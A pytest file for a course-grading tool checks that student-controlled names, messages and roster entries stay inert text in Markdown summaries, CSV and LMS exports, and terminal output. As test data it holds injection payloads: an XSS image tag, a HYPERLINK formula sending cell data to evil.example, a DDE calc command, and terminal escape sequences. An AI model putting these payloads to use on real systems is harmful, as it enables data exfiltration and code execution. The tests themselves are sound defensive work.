"""Hostile strings put through every class-level output, and the rendered files checked.

A student controls their submission's folder name, the messages their code raises, their
repository's name and (through the LMS) their roster display name. A review found the GitHub
gradebook job's summary.md printing ``**144 / 144 (100%)**`` and an ``<img>`` beside a real 0,
and lms/canvas.csv copying a display name ``=HYPERLINK(...)`` into a cell a spreadsheet runs.
Each test here writes the real file from such input and reads it as its reader would: Markdown
rendered (mistune), CSV parsed (csv module)."""

from __future__ import annotations

import csv
import html as html_module
import io
import json
import re

import mistune

from seqlab import classroom, escape
from seqlab import results as model
from seqlab.gradebook import STATUS_FILE, write_class_report, write_gradebook
from seqlab.lms import write_lms

FORGED = "**144 / 144 (100%)** <img src=x onerror=alert(1)> [full marks](http://evil.example) | 144 |"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Grades")'
# a folder name Linux allows: markup, a table pipe, a formula lead
HOSTILE_NAME = "-=1+1|**top**<b>x</b>[a](b)"
_RENDER = mistune.create_markdown(escape=False, plugins=["table", "strikethrough", "url"])


def _result(score: float, errors=()) -> model.GradingResult:
    return model.GradingResult(
        tests=[model.TestResult("rnn.rnn_cell: one", score, 1.0, output=FORGED if not score else "")],
        seed=1,
        errors=list(errors),
    )


def _results_folder(tmp_path):
    """A results folder as the GitHub workflow's grading jobs upload it: an honest student and
    one whose name and messages are hostile, both with status.json and seqlab_result.json."""
    results = tmp_path / "results"
    for name, result in (("alice", _result(1.0)), (HOSTILE_NAME, _result(0.0, errors=[FORGED, FORMULA]))):
        folder = results / name
        folder.mkdir(parents=True)
        result.save(folder / "seqlab_result.json")
        (folder / STATUS_FILE).write_text(json.dumps({"status": "graded", "reason": ""}))
        (folder / "commit.txt").write_text("<img src=x>**abc**\n")
    return results


def _cells(rendered_html: str) -> list[list[str]]:
    rows = re.findall(r"<tr>(.*?)</tr>", rendered_html, flags=re.S)
    return [re.findall(r"<t[dh][^>]*>(.*?)</t[dh]>", row, flags=re.S) for row in rows]


def test_summary_md_shows_a_students_markup_as_text_beside_the_real_score(tmp_path):
    results = _results_folder(tmp_path)
    expect = [{"name": HOSTILE_NAME, "repo": "org/**repo**<img src=x>", "upload": ""}]
    classroom.assemble_gradebook(results, tmp_path / "book", expect=expect)
    summary = (tmp_path / "book" / "summary.md").read_text(encoding="utf-8")
    rendered = _RENDER(summary)
    # nothing a student wrote became emphasis, an image, a link or HTML
    assert not re.search(r"<(img|script|a|b)\b", rendered), rendered
    gradebook_table = _cells(rendered.split("</table>")[0])
    header, rows = gradebook_table[0], gradebook_table[1:]
    assert header == ["submission", "source", "commit", "status", "score", "percent", "note"]
    assert all(len(row) == len(header) for row in rows), rows  # no pipe split a row
    hostile = next(row for row in rows if html_module.unescape(row[0]) == HOSTILE_NAME)
    assert hostile[4:6] == ["0 / 1", "0.0%"]  # the real score, beside the forged one shown as text
    assert html_module.unescape(hostile[6]).startswith(FORGED)
    assert html_module.unescape(hostile[1]) == "org/**repo**<img src=x>"
    # the class report appended below it: the name is text there too, its link one link
    assert "<strong>" not in rendered
    assert rendered.count("<a ") == 0 or all("evil" not in a for a in re.findall(r"<a [^>]*>", rendered))


def test_class_report_md_and_html_keep_names_and_reasons_as_text(tmp_path):
    rows = [
        {"submission": HOSTILE_NAME, "status": "graded", "reason": "", "result": _result(0.0, [FORGED])},
        {"submission": "bob", "status": "error", "reason": FORGED, "result": None},
    ]
    rows[0]["report"] = f"{HOSTILE_NAME}/report.html"
    html_path, md_path = write_class_report(tmp_path, rows)
    rendered = _RENDER(md_path.read_text(encoding="utf-8"))
    assert not re.search(r"<(img|script|strong|b)\b", rendered), rendered
    links = re.findall(r'<a href="([^"]*)">(.*?)</a>', rendered)
    assert len(links) == 1 and html_module.unescape(links[0][1]) == HOSTILE_NAME  # the report link only
    assert links[0][0].endswith("/report.html") and "(" not in links[0][0]
    page = html_path.read_text(encoding="utf-8")
    assert "<img src=x" not in page and "<b>x</b>" not in page


def test_gradebook_csv_cells_never_start_a_formula(tmp_path):
    rows = [
        {"submission": HOSTILE_NAME, "status": "graded", "reason": "", "result": _result(0.0, [FORMULA])},
        {"submission": "@bob", "status": "error", "reason": "+cmd|' /C calc'!A0", "result": None},
    ]
    path = write_gradebook(tmp_path, rows)
    table = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    for row in table:
        for cell in row:
            assert cell.lstrip(" ")[:1] not in escape.FORMULA_LEADS or re.fullmatch(r"-?[\d.]+", cell), cell
    assert escape.csv_visible(table[1][0]) == HOSTILE_NAME and table[1][-1] == "'" + FORMULA
    assert table[2][0] == "'@bob" and table[2][2] == "0"  # points stay numbers


CANVAS_ROSTER = f"""Student,ID,SIS User ID,SIS Login ID,Section
    Points Possible,,,,
"{FORMULA.replace('"', '""')}",2001,S-01,ada,Lab A
"Hopper, Grace",2002,S-02,grace,@Lab B
"-2+3",2003,+44 20,mallory,"Lab A\r\n=1+1"
"""


def test_lms_files_copy_no_display_name_or_id_as_a_formula(tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text(CANVAS_ROSTER, encoding="utf-8")
    folder, missing, unknown = write_lms(
        tmp_path, {"ada": 10.0, "grace": 5.0, "mallory": 0.0}, 10.0, assignment="Lab", roster_path=roster
    )
    for name in ("canvas.csv", "moodle.csv"):
        for row in csv.reader(io.StringIO((folder / name).read_text(encoding="utf-8"))):
            for cell in row:
                assert cell.lstrip(" ")[:1] not in escape.FORMULA_LEADS or re.fullmatch(r"-?[\d.]+", cell), cell
                assert "\r" not in cell and "\n" not in cell
    canvas = {r[3]: r for r in csv.reader(io.StringIO((folder / "canvas.csv").read_text(encoding="utf-8")))}
    assert canvas["ada"][0] == "'" + FORMULA and escape.csv_visible(canvas["ada"][0]) == FORMULA
    assert canvas["grace"][4] == "'@Lab B" and canvas["ada"][:2] == ["'" + FORMULA, "2001"]
    assert canvas["mallory"][0] == "'-2+3" and canvas["mallory"][2] == "'+44 20"
    assert canvas["mallory"][5] == "0"  # a grade is a number, kept as one
    check = (folder / "roster_check.txt").read_text(encoding="utf-8")
    assert "\r" not in check


def test_roster_check_keeps_one_line_per_person(tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text(
        'Student,SIS Login ID\n"Eve\r\nOn the roster with no graded submission (0):\x1b[2J",eve\nAda,ada\n',
        encoding="utf-8",
    )
    folder, missing, _ = write_lms(tmp_path, {"ada": 1.0}, 1.0, assignment="Lab", roster_path=roster)
    check = (folder / "roster_check.txt").read_text(encoding="utf-8")
    lines = check.splitlines()
    assert sum(line.startswith("On the roster") for line in lines) == 1 and "\x1b" not in check
    assert lines[2].startswith("  eve Eve On the roster")  # the forged line stays in Eve's


def test_the_terminal_summary_gives_each_student_one_line(capsys):
    from seqlab.commands.options import print_class_summary

    rows = [
        {"submission": "eve", "status": "error", "reason": "bad\n5 of 5 graded; all fine\x1b[2J\r"},
        {"submission": "ada", "status": "graded", "reason": ""},
    ]
    print_class_summary(rows, "wrote gradebook.csv")
    lines = capsys.readouterr().out.splitlines()
    assert lines == ["1 of 2 graded; wrote gradebook.csv", "  not graded: eve: bad 5 of 5 graded; all fine "]


def test_the_terminal_table_prints_markup_as_text():
    """rich markup in a message (``[/]`` raised MarkupError; ``[red]`` took a style), emoji codes and
    escape sequences: the grade's table prints each as the characters they are."""
    from seqlab.reports.table import print_table

    hostile = "[/] [red]100%[/red] \\[bold] :smile: \x1b[2Jend"
    result = model.GradingResult(
        tests=[model.TestResult("rnn.rnn_cell: one", 0.0, 1.0, output=hostile, hint=hostile)],
        seed=1,
        errors=[hostile],
        notices=[hostile],
    )
    out = io.StringIO()
    print_table(result, file=out)
    text = out.getvalue()
    visible = "[/] [red]100%[/red] \\[bold] :smile: end"
    assert text.count(visible) == 4 and "\x1b" not in text  # notice, error, the failure and its hint


def test_a_results_folder_named_in_no_encoding_still_gets_its_row_and_reports(tmp_path):
    """``seqlab gradebook`` over a folder whose name is not UTF-8: every file is written (the
    class report used to raise UnicodeEncodeError), the name shown with U+FFFD."""
    import os

    results = tmp_path / "results"
    folder = results / os.fsdecode(b"caf\xe9")
    folder.mkdir(parents=True)
    _result(1.0).save(folder / "seqlab_result.json")
    (folder / STATUS_FILE).write_text(json.dumps({"status": "graded", "reason": ""}))
    rows = classroom.assemble_gradebook(results, tmp_path / "book")
    assert [r["status"] for r in rows] == ["graded"]
    book = tmp_path / "book"
    assert {"gradebook.csv", "summary.md", "class_report.html", "class_report.md"} <= {p.name for p in book.iterdir()}
    assert next(csv.reader(io.StringIO((book / "gradebook.csv").read_text(encoding="utf-8").splitlines()[1])))[0] == (
        "caf\ufffd"
    )
    assert "| caf\ufffd |" in (book / "summary.md").read_text(encoding="utf-8")
